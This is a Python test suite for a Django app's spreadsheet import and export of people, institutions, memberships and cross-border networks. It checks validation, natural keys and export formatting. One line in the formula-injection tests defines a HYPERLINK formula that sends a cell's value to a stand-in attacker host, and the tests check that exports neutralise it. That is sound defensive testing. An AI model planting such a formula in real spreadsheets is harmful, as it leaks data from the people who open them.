"""Spreadsheet import and export: natural keys, all-or-nothing files, formula cells."""

import datetime
import io
from decimal import Decimal

import pytest
import tablib
from django.contrib.admin.models import ADDITION, CHANGE, LogEntry
from django.contrib.auth.models import Permission
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.translation import gettext, override
from openpyxl import load_workbook

from common.spreadsheets.imports import FileResult, validate_constraints
from networks.access import SYSTEM
from networks.enums import ConsentBasis, MembershipRole, NetworkKind, Sector, Sex
from networks.models import Institution, Membership, Municipality, Network, Person
from networks.resources import (
    InstitutionResource,
    MembershipResource,
    MunicipalityResource,
    NetworkMembersResource,
    NetworkResource,
    PersonResource,
)
from tests.factories import (
    DepartmentFactory,
    InstitutionFactory,
    MembershipFactory,
    MunicipalityFactory,
    NetworkFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db

PEOPLE_HEADER = "first_name,last_name,sex,email,phone,position,institution\n"


def dataset(text):
    return tablib.Dataset().load(text, format="csv")


def run_import(resource, text):
    """Import as the admin's confirm step does, but in English so messages can be compared."""
    with override("en"):
        return resource.import_data(
            dataset(text),
            dry_run=False,
            raise_errors=False,
            use_transactions=True,
            rollback_on_validation_errors=True,
        )


def run_import_dataset(resource, data):
    with override("en"):
        return resource.import_data(data, dry_run=False, raise_errors=False)


def by_column(resource_class, exported):
    """The rows of an export keyed by column name, whatever the language of its headers."""
    names = resource_class.column_names_of(exported.headers)
    return [dict(zip(names, row, strict=True)) for row in exported]


def row_errors(result):
    """{row number: {column: [messages]}} of every invalid row, as the preview lists them."""
    return {row.number: row.error_dict for row in result.invalid_rows}


@pytest.fixture
def citala(countries):
    chalatenango = DepartmentFactory(country=countries["SV"], code="SV-CH", name="Chalatenango")
    return MunicipalityFactory(
        department=chalatenango, name="Citalá", official_code="0404", slug="citala-sv"
    )


# People ----------------------------------------------------------------------------------


def test_people_file_with_bad_rows_writes_nothing_and_reports_each_row(countries):
    InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    text = PEOPLE_HEADER + (
        "Ana,López,female,ana@example.org,,,Alcaldía de Metapán\n"
        "Luis,Pérez,male,,,,\n"
        "Rosa,Díaz,robot,rosa@example.org,,,Alcaldía de Metapán\n"
        "Juan,Mejía,male,juan@example.org,,,Alcaldía de Esquipulas\n"
    )

    result = run_import(PersonResource(actor=SYSTEM), text)

    assert Person.objects.count() == 0
    assert row_errors(result) == {
        3: {"email": ["An e-mail address is required: it is how an import recognises a person."]},
        4: {"sex": ["Unknown value “robot”. Allowed values: Female, Male, Prefers not to say."]},
        5: {
            "institution": [
                "No institution is called “Alcaldía de Esquipulas”. "
                "Import or add the institution first."
            ]
        },
    }


def test_people_file_matches_email_and_institution_whatever_the_case(countries):
    institution = InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    existing = PersonFactory(first_name="Ana", email="ana@example.org", institution=None)
    text = PEOPLE_HEADER + (
        "Ana María,López,Mujer,ANA@Example.org,+503 7000 0000,Alcaldesa,ALCALDÍA DE METAPÁN\n"
        "Luis,Pérez,Male,luis@example.org,,,\n"
    )

    result = run_import(PersonResource(actor=SYSTEM), text)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    existing.refresh_from_db()
    assert (existing.first_name, existing.sex, existing.institution) == (
        "Ana María",
        Sex.FEMALE,
        institution,
    )
    assert set(Person.objects.values_list("email", "sex")) == {
        ("ana@example.org", Sex.FEMALE),
        ("luis@example.org", Sex.MALE),
    }


def test_people_reimport_of_an_export_skips_unchanged_rows(countries):
    PersonFactory(institution=InstitutionFactory(country=countries["SV"]))
    exported = PersonResource(actor=SYSTEM).export().csv

    result = run_import(PersonResource(actor=SYSTEM), exported)

    assert [row.import_type for row in result.rows] == ["skip"]


def test_people_file_with_one_email_twice_reports_the_later_row_and_writes_nothing(countries):
    text = PEOPLE_HEADER + (
        "Ana,López,female,ana@example.org,,,\n"
        "Luis,Pérez,male,luis@example.org,,,\n"
        "Ana María,López,female,ANA@Example.org,,,\n"
    )

    result = run_import(PersonResource(actor=SYSTEM), text)

    assert Person.objects.count() == 0
    assert row_errors(result) == {
        4: {
            "email": [
                "Row 2 of this file already has “ANA@Example.org”: a record can appear only "
                "once in a file."
            ]
        }
    }


def test_people_file_updates_a_person_whose_email_differs_in_case(countries):
    existing = PersonFactory(first_name="Ana", email="ana@example.org", institution=None)
    Person.objects.filter(pk=existing.pk).update(
        updated_at=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    )

    result = run_import(
        PersonResource(actor=SYSTEM), PEOPLE_HEADER + "Ana Sofía,López,female,ANA@EXAMPLE.ORG,,,\n"
    )

    assert [row.import_type for row in result.rows] == ["update"]
    person = Person.objects.get()
    assert (person.pk, person.first_name, person.email) == (
        existing.pk,
        "Ana Sofía",
        "ana@example.org",
    )
    assert person.updated_at.year > 2020  # written in bulk, the stamp still moves


def test_people_file_reports_unknown_institution_on_its_row(countries):
    InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    text = PEOPLE_HEADER + (
        "Ana,López,female,ana@example.org,,,ALCALDIA DE METAPAN\n"
        "Luis,Pérez,male,luis@example.org,,,Alcaldía de Ocotepeque\n"
    )

    result = run_import(PersonResource(actor=SYSTEM), text)

    assert Person.objects.count() == 0
    assert row_errors(result) == {
        3: {
            "institution": [
                "No institution is called “Alcaldía de Ocotepeque”. "
                "Import or add the institution first."
            ]
        }
    }


def test_people_file_finds_an_institution_written_without_accents(countries):
    metapan = InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    text = PEOPLE_HEADER + (
        "Ana,López,female,ana@example.org,,,ALCALDIA DE METAPAN\n"
        "Luis,Pérez,male,luis@example.org,,,alcaldia de metapán\n"
    )

    result = run_import(PersonResource(actor=SYSTEM), text)

    assert not result.has_validation_errors(), row_errors(result)
    assert {person.institution for person in Person.objects.all()} == {metapan}


def test_people_file_with_consent_date_but_no_basis_is_refused(countries):
    text = (
        "first_name,last_name,sex,email,consent_date,consent_basis\n"
        "Ana,López,female,ana@example.org,15/03/2023,\n"
        "Luis,Pérez,male,luis@example.org,15/03/2023,written\n"
    )

    result = run_import(PersonResource(actor=SYSTEM), text)

    assert Person.objects.count() == 0
    assert row_errors(result) == {
        2: {"__all__": ["Give both the date and the basis of consent, or neither."]}
    }


def people_file(count):
    return PEOPLE_HEADER + "".join(
        f"Ana,López,female,PERSON{index}@Example.org,,,alcaldía de metapán\n"
        for index in range(count)
    )


@pytest.mark.parametrize("dry_run", [True, False])
def test_people_import_queries_do_not_grow_with_rows(countries, dry_run):
    InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    PersonFactory(email="person0@example.org", first_name="Rosa", institution=None)

    def queries(count):
        with CaptureQueriesContext(connection) as captured, transaction.atomic():
            result = PersonResource(actor=SYSTEM).import_data(
                dataset(people_file(count)), dry_run=dry_run
            )
            assert totals(result) == {"new": count - 1, "update": 1}
            transaction.set_rollback(True)
        return len(captured)

    assert queries(50) == queries(5)


def test_institution_import_queries_do_not_grow_with_rows(citala):
    def queries(count):
        text = "name,sector,country,municipality\n" + "".join(
            f"Alcaldía {index},municipal_government,SV,SV:Citalá\n" for index in range(count)
        )
        with CaptureQueriesContext(connection) as captured, transaction.atomic():
            result = InstitutionResource(actor=SYSTEM).import_data(dataset(text))
            assert totals(result) == {"new": count}
            transaction.set_rollback(True)
        return len(captured)

    assert queries(50) == queries(5)


def test_people_file_is_refused_whole_when_the_database_finds_a_duplicate(countries, monkeypatch):
    # Someone adds the same person between the import's lookup and its write.
    PersonFactory(email="ana@example.org")
    monkeypatch.setattr(PersonResource, "_load_existing", lambda self, dataset: {})
    text = (
        PEOPLE_HEADER + "Luis,Pérez,male,luis@example.org,,,\nAna,López,female,ana@example.org,,,\n"
    )

    result = run_import(PersonResource(actor=SYSTEM), text)

    assert result.has_errors()
    assert set(Person.objects.values_list("email", flat=True)) == {"ana@example.org"}


def totals(result):
    return {kind: number for kind, number in result.totals.items() if number}


def test_large_file_result_keeps_first_rows_and_totals(countries, monkeypatch):
    monkeypatch.setattr(FileResult, "kept_rows", 2)
    InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])
    saved = []

    with override("en"):
        result = PersonResource(actor=SYSTEM).import_data(
            dataset(people_file(5)), log_saved=saved.append
        )

    assert [row.import_type for row in result.rows] == ["new", "new"]
    assert (result.omitted_rows, totals(result)) == (3, {"new": 5})
    assert Person.objects.count() == 5
    assert [sorted(p.email for p in batch["new"]) for batch in saved] == [
        [f"person{index}@example.org" for index in range(5)]
    ]


@pytest.mark.parametrize("dry_run", [True, False])
def test_unchanged_rows_past_the_kept_ones_are_still_skipped(countries, monkeypatch, dry_run):
    monkeypatch.setattr(FileResult, "kept_rows", 1)
    PersonFactory.create_batch(3, institution=InstitutionFactory(country=countries["SV"]))
    exported = PersonResource(actor=SYSTEM).export().csv
    Person.objects.filter(pk=Person.objects.order_by("pk").last().pk).update(position="Otra")

    result = PersonResource(actor=SYSTEM).import_data(dataset(exported), dry_run=dry_run)

    assert totals(result) == {"skip": 2, "update": 1}


def test_institution_file_with_one_name_twice_is_refused(countries):
    text = "name,sector,country\nUniversidad,academia,SV\nUNIVERSIDAD,academia,GT\n"

    result = run_import(InstitutionResource(actor=SYSTEM), text)

    assert Institution.objects.count() == 0
    assert row_errors(result) == {
        3: {
            "name": [
                "Row 2 of this file already has “UNIVERSIDAD”: a record can appear only "
                "once in a file."
            ]
        }
    }


@pytest.mark.parametrize(
    ("consent_date", "consent_basis"),
    [
        (None, ""),
        (datetime.date(2024, 1, 5), ConsentBasis.WRITTEN),
        (datetime.date(2024, 1, 5), ""),
        (None, ConsentBasis.WRITTEN),
    ],
)
def test_consent_check_in_python_agrees_with_the_database(consent_date, consent_basis):
    person = Person(consent_date=consent_date, consent_basis=consent_basis)

    assert constraint_errors(lambda: validate_constraints(person, exclude=set())) == (
        constraint_errors(person.validate_constraints)
    )


@pytest.mark.parametrize(
    ("start_date", "end_date"),
    [
        (datetime.date(2024, 1, 5), None),
        (datetime.date(2024, 1, 5), datetime.date(2024, 1, 5)),
        (datetime.date(2024, 1, 5), datetime.date(2024, 1, 4)),
    ],
)
def test_membership_dates_check_in_python_agrees_with_the_database(start_date, end_date):
    seat = MembershipFactory.build(start_date=start_date, end_date=end_date)

    excluded = {"person", "network"}  # as when those columns did not resolve
    assert constraint_errors(lambda: validate_constraints(seat, exclude=excluded)) == (
        constraint_errors(lambda: seat.validate_constraints(exclude=excluded))
    )


def constraint_errors(validate):
    try:
        validate()
    except ValidationError as error:
        return error.message_dict
    return {}


def test_people_file_without_email_column_is_refused(countries):
    result = run_import(
        PersonResource(actor=SYSTEM), "first_name,last_name,sex\nAna,López,female\n"
    )

    assert Person.objects.count() == 0
    assert [str(error.error) for error in result.base_errors] == [
        "The file needs the columns “E-mail” (it has: first_name, last_name, sex). Save the "
        "sheet with its header row first."
    ]


# Memberships ---------------------------------------------------------------------------------

MEMBERSHIP_HEADER = "person,network,institution,role,start_date,end_date\n"


@pytest.fixture
def member_and_network(countries):
    person = PersonFactory(
        email="ana@example.org", institution=InstitutionFactory(name="Alcaldía de Metapán")
    )
    return person, NetworkFactory(slug="red-metapan")


def test_membership_file_with_second_open_seat_writes_nothing(member_and_network):
    person, network = member_and_network
    MembershipFactory(person=person, network=network, start_date=datetime.date(2020, 1, 1))
    other = PersonFactory(email="luis@example.org")
    text = MEMBERSHIP_HEADER + (
        "luis@example.org,red-metapan,,Coordinación,2023-01-01,\n"
        "ANA@example.org,red-metapan,,member,2024-02-01,\n"
    )

    result = run_import(MembershipResource(actor=SYSTEM), text)

    assert not Membership.objects.filter(person=other).exists()
    assert Membership.objects.count() == 1
    assert row_errors(result) == {
        3: {
            "__all__": [
                "This person already has an open membership in this network. "
                "End it before starting another."
            ]
        }
    }


def test_membership_file_with_end_before_start_or_unknown_keys_reports_rows(member_and_network):
    text = MEMBERSHIP_HEADER + (
        "ana@example.org,red-metapan,,member,2024-05-01,2024-04-30\n"
        "nadie@example.org,red-inexistente,,chair,2024-05-01,\n"
        "ana@example.org,red-metapan,,member,31/02/2024,\n"
    )

    result = run_import(MembershipResource(actor=SYSTEM), text)

    assert Membership.objects.count() == 0
    errors = row_errors(result)
    assert errors[2] == {"__all__": ["The end date cannot precede the start date."]}
    assert errors[3]["person"] == [
        "No person has the e-mail address “nadie@example.org”. Import the person first."
    ]
    assert errors[3]["network"] == ["No network has the slug “red-inexistente”."]
    assert errors[3]["role"][0].startswith("Unknown value “chair”. Allowed values: Coordinator,")
    assert errors[4] == {
        "start_date": ["“31/02/2024” is not a date. Write it as 2024-05-31 or 31/05/2024."]
    }


def test_membership_file_opens_and_ends_seats(member_and_network):
    person, network = member_and_network
    seat = MembershipFactory(person=person, network=network, start_date=datetime.date(2020, 1, 1))
    newcomer = PersonFactory(email="luis@example.org", institution=InstitutionFactory())
    text = MEMBERSHIP_HEADER + (
        "ana@example.org,red-metapan,Alcaldía de Metapán,member,2020-01-01,31/12/2023\n"
        "luis@example.org,red-metapan,,Secretaría técnica,2024-01-15,\n"
    )

    result = run_import(MembershipResource(actor=SYSTEM), text)

    assert [row.import_type for row in result.rows] == ["update", "new"]
    seat.refresh_from_db()
    assert seat.end_date == datetime.date(2023, 12, 31)
    opened = Membership.objects.get(person=newcomer)
    assert (opened.role, opened.institution, opened.start_date) == (
        MembershipRole.TECHNICAL_SECRETARIAT,
        newcomer.institution,
        datetime.date(2024, 1, 15),
    )


# Networks and the cross-border rule ------------------------------------------------------------

NETWORK_HEADER = "name,slug,kind,status,municipalities,programme\n"


def test_cross_border_table_of_one_country_is_refused_and_file_writes_nothing(
    border_municipalities,
):
    text = NETWORK_HEADER + (
        "Red de Esquipulas,red-esquipulas,local_network,,GT:Esquipulas,\n"
        "Mesa Metapán,mesa-metapan,Mesa técnica transfronteriza,active,SV:Metapán,\n"
    )

    result = run_import(NetworkResource(actor=SYSTEM), text)

    assert Network.objects.count() == 0
    assert row_errors(result) == {
        3: {
            "municipalities": [
                "A cross-border technical table must join municipalities of at least two countries."
            ]
        }
    }


def test_cross_border_table_of_two_countries_is_imported(border_municipalities):
    text = NETWORK_HEADER + (
        "Mesa Trifinio,,cross_border_table,Forming,SV:Metapán; hn:ocotepeque ; GT:Esquipulas,\n"
    )

    result = run_import(NetworkResource(actor=SYSTEM), text)

    assert not result.has_validation_errors()
    table = Network.objects.get()
    assert (table.slug, table.kind, table.status) == (
        "mesa-trifinio",
        NetworkKind.CROSS_BORDER_TABLE,
        "forming",
    )
    assert {m.name for m in table.municipalities.all()} == {"Metapán", "Ocotepeque", "Esquipulas"}


def test_network_file_with_unknown_municipality_reports_it(border_municipalities):
    text = NETWORK_HEADER + "Mesa,mesa,cross_border_table,,SV:Metapán; HN:Atlántida,\n"

    result = run_import(NetworkResource(actor=SYSTEM), text)

    assert Network.objects.count() == 0
    assert row_errors(result) == {2: {"municipalities": ["No municipality “Atlántida” in HN."]}}


def test_network_export_lists_municipalities_as_references(border_municipalities):
    NetworkFactory(
        name="Mesa Trifinio",
        slug="mesa-trifinio",
        kind=NetworkKind.CROSS_BORDER_TABLE,
        municipalities=[border_municipalities["SV"], border_municipalities["HN"]],
    )

    with override("en"):
        exported = NetworkResource(actor=SYSTEM).export()

    assert exported.headers == [
        "Name",
        "Slug",
        "Kind",
        "Status",
        "Municipalities",
        "Public description",
        "Founded on",
        "Programme",
    ]
    (row,) = by_column(NetworkResource, exported)
    assert row["municipalities"] == "HN:Ocotepeque; SV:Metapán"
    assert row["kind"] == "Cross-border technical table"


def test_network_export_of_a_queryset_that_already_prefetches_municipalities(
    border_municipalities,
):
    # As the admin's export: NetworkAdmin.get_queryset() uses for_directory() too.
    NetworkFactory(municipalities=[border_municipalities["SV"], border_municipalities["HN"]])

    exported = NetworkResource(actor=SYSTEM).export(queryset=Network.objects.for_directory())

    assert by_column(NetworkResource, exported)[0]["municipalities"] == "HN:Ocotepeque; SV:Metapán"


# Municipality references ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "reference", ["SV:0404", "SV:Citalá", "sv: citala", "SV:Citalá [0404]", "SV:CITALÁ[0404]"]
)
def test_institution_municipality_accepts_code_name_or_both(citala, reference):
    text = f"name,sector,country,municipality\nAlcaldía,municipal_government,SV,{reference}\n"

    result = run_import(InstitutionResource(actor=SYSTEM), text)

    assert not result.has_validation_errors(), row_errors(result)
    assert Institution.objects.get().municipality == citala


@pytest.mark.parametrize(
    ("reference", "message"),
    [
        ("SV:Metapán", "No municipality “Metapán” in SV."),
        ("GT:0404", "No municipality “0404” in GT."),
        ("SV:Citalá [0405]", "No municipality “Citalá [0405]” in SV."),
        (
            "Citalá",
            "“Citalá” is not a municipality reference. Write the country code, a colon and "
            "the official code or name: SV:0404, SV:Citalá or SV:Citalá [0404].",
        ),
        (
            "SV:San José",
            "“SV:San José” is ambiguous: it matches SV:San José [0420] (Chalatenango); "
            "SV:San José (La Unión). Add the official code in brackets to say which one.",
        ),
    ],
)
def test_institution_municipality_unknown_or_ambiguous_is_row_error(
    citala, countries, reference, message
):
    MunicipalityFactory(
        department=citala.department, name="San José", official_code="0420", slug="sj-ch"
    )
    la_union = DepartmentFactory(country=countries["SV"], code="SV-UN", name="La Unión")
    MunicipalityFactory(department=la_union, name="San José", slug="sj-un")
    text = f"name,sector,country,municipality\nAlcaldía,municipal_government,SV,{reference}\n"

    result = run_import(InstitutionResource(actor=SYSTEM), text)

    assert Institution.objects.count() == 0
    assert row_errors(result) == {2: {"municipality": [message]}}


def test_institution_sector_label_in_spanish_or_english_is_accepted(countries):
    text = (
        "name,sector,country\n"
        "Universidad,academia,sv\n"
        "Pastoral de Movilidad Humana,Faith-based organisation,GT\n"
        "Alcaldía de Ocotepeque,gobierno municipal,HN\n"
    )

    with override("es"):
        spanish = str(Sector.MUNICIPAL_GOVERNMENT.label)
    result = run_import(
        InstitutionResource(actor=SYSTEM), text.replace("gobierno municipal", spanish)
    )

    assert not result.has_validation_errors(), row_errors(result)
    assert set(Institution.objects.values_list("name", "sector", "country__code")) == {
        ("Universidad", Sector.ACADEMIA, "SV"),
        ("Pastoral de Movilidad Humana", Sector.FAITH_BASED, "GT"),
        ("Alcaldía de Ocotepeque", Sector.MUNICIPAL_GOVERNMENT, "HN"),
    }


def test_municipality_file_creates_districts_of_a_successor(citala, countries):
    text = (
        "department,name,official_code,slug,is_border,borders_with,latitude,longitude,"
        "valid_from,valid_until,successor\n"
        "SV-CH,Chalatenango Norte,,,sí,GT; HN,14.31,-89.21,2024-05-01,,\n"
        "SV-CH,citalá,0404,,yes,HN,14.37,-89.21,,30/04/2024,SV:Chalatenango Norte\n"
    )

    result = run_import(MunicipalityResource(actor=SYSTEM), text)

    assert not result.has_validation_errors(), row_errors(result)
    assert [row.import_type for row in result.rows] == ["new", "update"]
    successor = Municipality.objects.get(name="Chalatenango Norte")
    assert successor.slug == "chalatenango-norte-sv"
    assert {c.code for c in successor.borders_with.all()} == {"GT", "HN"}
    assert successor.longitude == Decimal("-89.21")
    citala.refresh_from_db()
    assert (citala.slug, citala.valid_until, citala.successor) == (
        "citala-sv",
        datetime.date(2024, 4, 30),
        successor,
    )


def test_municipality_export_headers_and_references(citala):
    exported = MunicipalityResource(actor=SYSTEM).export()

    assert exported.headers == [
        "País",
        "Departamento",
        "Nombre",
        "Código oficial",
        "Identificador de URL",
        "Municipio fronterizo",
        "Limita con",
        "Latitud",
        "Longitud",
        "Municipio desde",
        "Municipio hasta",
        "Ahora distrito de",
    ]
    (row,) = by_column(MunicipalityResource, exported)
    assert (row["department"], row["country"], row["is_border"]) == ("SV-CH", "SV", "sí")


def test_export_headers_are_the_columns_names_in_the_readers_language():
    assert PersonResource(actor=SYSTEM).export().headers == [
        "Nombres",
        "Apellidos",
        "Sexo",
        "Correo electrónico",
        "Teléfono",
        "Cargo",
        "Institución actual",
        "Consentimiento otorgado el",
        "Base del consentimiento",
    ]
    with override("en"):
        assert InstitutionResource(actor=SYSTEM).export().headers == [
            "Name",
            "Acronym",
            "Sector",
            "Country",
            "Municipality",
            "Website",
        ]
        assert MembershipResource(actor=SYSTEM).export().headers == [
            "E-mail of the person",
            "Network (identifier)",
            "Institution represented",
            "Role",
            "Start date",
            "End date",
        ]


@pytest.mark.parametrize(
    "resource_class",
    [
        MunicipalityResource,
        InstitutionResource,
        PersonResource,
        NetworkResource,
        MembershipResource,
        NetworkMembersResource,
    ],
)
def test_every_header_names_one_column_in_both_languages(resource_class):
    # A file headed in either language (or by the stable names) finds each column, and no
    # header of one language is another column's header in the other.
    names = list(resource_class.fields)
    for language in ("es", "en"):
        with override(language):
            headers = [
                resource_class.column_label(field) for field in resource_class.fields.values()
            ]
        assert resource_class.column_names_of(headers) == names
        assert resource_class.column_names_of([f"  {h.upper()} " for h in headers]) == names
    assert resource_class.column_names_of(names) == names


# Formula injection ------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'


@pytest.fixture
def formula_person(countries):
    return PersonFactory(
        first_name="@Ana",
        last_name="-López",
        email="ana@example.org",
        position=HYPERLINK,
        phone="+503 7000 0000",
        consent_date=datetime.date(2024, 1, 5),
        consent_basis="written",
        institution=InstitutionFactory(name="\tAlcaldía", country=countries["SV"]),
    )


def test_formula_cells_are_neutralised_in_csv_export(formula_person):
    (row,) = by_column(PersonResource, dataset(PersonResource(actor=SYSTEM).export().csv))

    assert row["position"] == "'" + HYPERLINK
    assert row["phone"] == "'+503 7000 0000"
    assert row["first_name"] == "'@Ana"
    assert row["last_name"] == "'-López"
    assert row["institution"] == "'\tAlcaldía"
    assert row["email"] == "ana@example.org"
    assert row["consent_date"] == "2024-01-05"


def test_formula_cells_are_neutralised_in_xlsx_export(formula_person):
    export = PersonResource(actor=SYSTEM).export(force_native_type=True)
    sheet = load_workbook(io.BytesIO(export.export("xlsx"))).active
    header = PersonResource.column_names_of([cell.value for cell in sheet[1]])
    cells = dict(zip(header, sheet[2], strict=True))

    assert cells["position"].value == "'" + HYPERLINK
    assert cells["position"].data_type == "s"
    assert cells["phone"].value == "'+503 7000 0000"
    assert cells["consent_date"].value == datetime.datetime(2024, 1, 5)


def test_numbers_and_dates_are_not_quoted(citala):
    citala.latitude, citala.longitude = Decimal("14.37"), Decimal("-89.21")
    citala.valid_until = datetime.date(2024, 4, 30)
    citala.save()

    (row,) = by_column(MunicipalityResource, MunicipalityResource(actor=SYSTEM).export())
    with override("en"):
        (english,) = by_column(MunicipalityResource, MunicipalityResource(actor=SYSTEM).export())

    # Numbers in the reader's notation (which the import reads in either), dates in ISO.
    assert (row["longitude"], english["longitude"]) == ("-89,21000", "-89.21000")
    assert row["valid_until"] == english["valid_until"] == "2024-04-30"


def test_exported_formula_cells_import_back_unchanged(formula_person):
    exported = PersonResource(actor=SYSTEM).export().csv
    Person.objects.all().delete()

    result = run_import(PersonResource(actor=SYSTEM), exported)

    assert not result.has_validation_errors(), row_errors(result)
    person = Person.objects.get()
    assert (person.first_name, person.last_name, person.position, person.phone) == (
        "@Ana",
        "-López",
        HYPERLINK,
        "+503 7000 0000",
    )
    assert person.institution.name == "\tAlcaldía"


def test_exported_xlsx_imports_back_as_unchanged_rows(formula_person):
    xlsx = PersonResource(actor=SYSTEM).export(force_native_type=True).export("xlsx")

    result = run_import_dataset(
        PersonResource(actor=SYSTEM), tablib.Dataset().load(xlsx, format="xlsx")
    )

    assert [row.import_type for row in result.rows] == ["skip"]


# Through the admin: the log of a confirmed import, previews of long files --------------------


@pytest.fixture
def people_importer(client, staff_user):
    staff_user.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="networks",
            codename__in=["view_person", "add_person", "change_person", "import_person"],
        )
    )
    client.force_login(staff_user)
    return client


def admin_preview(client, text):
    upload = SimpleUploadedFile("people.csv", text.encode("utf-8"), content_type="text/csv")
    return client.post(
        reverse("admin:networks_person_import"),
        {"resource": "0", "format": "0", "import_file": upload},
    )


def admin_confirm(client, preview_response):
    confirm_form = preview_response.context["confirm_form"]
    return client.post(
        reverse("admin:networks_person_process_import"),
        {name: confirm_form.initial[name] for name in confirm_form.fields},
    )


def test_admin_confirm_logs_each_new_and_updated_person_once(
    people_importer, staff_user, countries
):
    ana = PersonFactory(first_name="Ana", last_name="López", email="ana@example.org")
    text = PEOPLE_HEADER + (
        "Ana María,López,female,ANA@example.org,,,\nLuis,Pérez,male,luis@example.org,,,\n"
    )

    confirmed = admin_confirm(people_importer, admin_preview(people_importer, text))

    luis = Person.objects.get(email="luis@example.org")
    with override("es"):  # the importer's language
        added = gettext("Added by a spreadsheet import.")
        changed = gettext("Changed by a spreadsheet import.")
    assert confirmed["Location"] == reverse("admin:networks_person_changelist")
    assert sorted(
        LogEntry.objects.filter(user=staff_user).values_list(
            "object_id", "object_repr", "action_flag", "change_message"
        )
    ) == sorted(
        [
            (str(ana.pk), "Ana María López", CHANGE, changed),
            (str(luis.pk), "Luis Pérez", ADDITION, added),
        ]
    )


def test_admin_preview_of_a_long_file_lists_first_rows_and_imports_all(
    people_importer, staff_user, countries, monkeypatch
):
    monkeypatch.setattr(FileResult, "kept_rows", 2)
    InstitutionFactory(name="Alcaldía de Metapán", country=countries["SV"])

    response = admin_preview(people_importer, people_file(5))
    confirmed = admin_confirm(people_importer, response)

    with override("es"):
        notice = gettext(
            "The preview lists the first %(shown)s of %(total)s rows. The whole file: "
            "%(new)s new, %(update)s to update, %(skip)s unchanged."
        ) % {"shown": 2, "total": 5, "new": 5, "update": 0, "skip": 0}
    content = response.content.decode()
    assert [row.import_type for row in response.context["result"].valid_rows()] == ["new"] * 2
    assert ("person1@example.org" in content, "person2@example.org" in content) == (True, False)
    assert notice in content
    assert confirmed["Location"] == reverse("admin:networks_person_changelist")
    assert Person.objects.count() == 5
    assert LogEntry.objects.filter(user=staff_user, action_flag=ADDITION).count() == 5
